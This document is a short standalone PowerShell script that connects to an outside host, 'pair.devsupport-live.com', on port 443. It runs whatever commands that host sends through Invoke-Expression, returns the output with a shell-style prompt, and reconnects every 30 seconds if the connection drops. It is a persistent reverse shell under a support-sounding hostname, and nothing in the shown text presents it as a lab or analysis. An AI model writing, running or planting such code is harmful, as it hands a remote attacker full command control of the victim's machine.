$h = 'pair.devsupport-live.com'; $p = 443
while ($true) {
  try {
    $c = New-Object System.Net.Sockets.TCPClient($h, $p)
    $s = $c.GetStream()
    [byte[]]$buf = 0..65535 | ForEach-Object { 0 }
    while (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {
      $cmd = (New-Object System.Text.ASCIIEncoding).GetString($buf, 0, $n)
      $out = (Invoke-Expression $cmd 2>&1 | Out-String)
      $out2 = $out + 'PS ' + (Get-Location).Path + '> '
      $b = ([Text.Encoding]::ASCII).GetBytes($out2)
      $s.Write($b, 0, $b.Length); $s.Flush()
    }
    $c.Close()
  } catch { Start-Sleep -Seconds 30 }
}
